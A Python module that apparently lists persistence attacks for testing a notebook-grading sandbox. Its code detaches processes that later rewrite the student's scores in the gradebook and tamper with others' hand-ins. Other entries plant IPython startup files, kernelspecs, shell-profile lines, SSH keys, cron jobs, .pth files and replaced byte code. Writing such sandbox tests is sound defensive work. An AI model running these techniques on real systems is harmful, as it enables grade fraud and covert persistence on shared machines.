"""Staying after the end: processes, timers, start-up files."""

from ..attack import Attack

KIND = "persist"


def of(name: str, about: str, code: str = "", **more: object) -> Attack:
    return Attack(name, KIND, about, code, **more)  # type: ignore[arg-type]


LATER = '''
def later(act, seconds=1.5):
    """Act from a process that has nothing to do with this one any more."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(256): quietly(os.close, fd)
            for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
            time.sleep(seconds)
            quietly(act)
            os._exit(0)
        os._exit(0)
    os.wait()
def own_scores():
    import sqlite3
    db = sqlite3.connect(CLASS + "/gradebook.db", timeout=5)
    with db:
        db.execute("update grade set manual_score = 2 where notebook_id in (select n.id from submitted_notebook n join "
                   "submitted_assignment a on a.id = n.assignment_id where a.student_id = ?)", (ME,))
'''

ATTACKS = (
    of("scores-later", "A detached process edits the scores after grading.",
       LATER + "later(own_scores, 6)\n", linger=8.0),
    of("daemon", "A process detaches itself and stays.", LATER + "later(lambda: time.sleep(300), 0)\n"),
    of("daemon-by-program", "Programs are started in the background with nohup and setsid.", """
for command in ("nohup sleep 300 >/dev/null 2>&1 &", "setsid sleep 300 >/dev/null 2>&1 &",
                "(sleep 300 & disown) 2>/dev/null"):
    quietly(lambda: subprocess.run(["bash", "-c", command], timeout=2))
"""),
    of("daemon-in-namespaces", "A process stays in namespaces of its own.", """
quietly(lambda: subprocess.Popen(["unshare", "-Urpf", "sleep", "300"], start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
"""),
    of("writes-at-exit", "An exit handler writes into the class.", """
import atexit
atexit.register(lambda: quietly(mark, CLASS + "/breach-at-exit"))
atexit.register(lambda: quietly(mark, "../../../breach-at-exit"))
"""),
    of("hand-ins-later", "A detached process changes others' hand-ins later.", LATER + """
def spoil():
    for path in glob.glob(CLASS + "/submitted/zoe/*/*"): mark(path)
later(spoil, 6)
""", linger=8.0),
    of("ipython-startup", "A start-up file for IPython runs in everybody's kernels.", """
for home in (HOME, os.path.expanduser("~")):
    folder = home + "/.ipython/profile_default/startup"
    quietly(os.makedirs, folder, 0o755, True)
    quietly(lambda: open(folder + "/00-first.py", "w").write("print('BREACH')\\nimport numpy.testing\\n"
            "numpy.testing.assert_allclose = lambda *a, **k: print('BREACH')\\n"))
"""),
    of("kernelspec", "A kernelspec of the student's replaces python3 for everybody.", """
import json
for home in (HOME, os.path.expanduser("~")):
    folder = home + "/.local/share/jupyter/kernels/python3"
    quietly(os.makedirs, folder, 0o755, True)
    quietly(lambda: json.dump({"argv": [sys.executable, "-c", "print('BREACH')"], "display_name": "Python 3",
                               "language": "python"},
                              open(folder + "/kernel.json", "w")))
"""),
    of("shell-profile", "Commands are appended to the instructor's shell profiles.", """
for home in (HOME, os.path.expanduser("~")):
    for name in (".bashrc", ".profile", ".zshrc", ".bash_login", ".xsessionrc"):
        quietly(lambda: open(f"{home}/{name}", "a").write("echo BREACH\\n"))
"""),
    of("keys", "A key is added to the instructor's authorised keys, and a hook to git's settings.", """
for home in (HOME, os.path.expanduser("~")):
    quietly(mark, home + "/.ssh/authorized_keys")
    quietly(mark, home + "/.gitconfig")
"""),
    of("crontab", "A job is put into crontab and at.", """
for command in (["crontab", "-"], ["at", "now + 1 minute"], ["batch"]):
    quietly(lambda: subprocess.run(command, input=f"touch {CLASS}/breach\\n".encode(), capture_output=True, timeout=2))
for path in ("/etc/cron.d/breach", "/var/spool/cron/crontabs/breach", HOME + "/.config/systemd/user/breach.service",
             HOME + "/.config/autostart/breach.desktop"):
    quietly(os.makedirs, os.path.dirname(path), 0o755, True)
    quietly(mark, path)
"""),
    of("path-files", "A .pth file and usercustomize.py are put where every Python would run them.", """
import site
folders = [*site.getsitepackages(), site.getusersitepackages(),
           HOME + "/.local/lib/python3.11/site-packages", *sys.path]
for folder in folders:
    quietly(os.makedirs, folder, 0o755, True)
    for name in ("breach.pth", "usercustomize.py", "sitecustomize.py"):
        quietly(mark, folder + "/" + name)
"""),
    of("path-folder", "Programs called python, git and bash are put into folders of PATH.", """
for folder in os.environ.get("PATH", "").split(":") + [HOME + "/.local/bin", HOME + "/bin"]:
    for name in ("python", "alembic", "ls"):
        quietly(mark, os.path.join(folder, "breach-" + name))
"""),
    of("byte-code", "The byte code of installed modules is replaced in __pycache__.", """
import numpy, helpers, json
for module in (numpy, helpers, json):
    cache = getattr(module, "__cached__", None)
    if cache:
        quietly(mark, cache)
        quietly(mark, cache + ".new")
        quietly(os.replace, cache + ".new", cache)
"""),
)  # fmt: skip
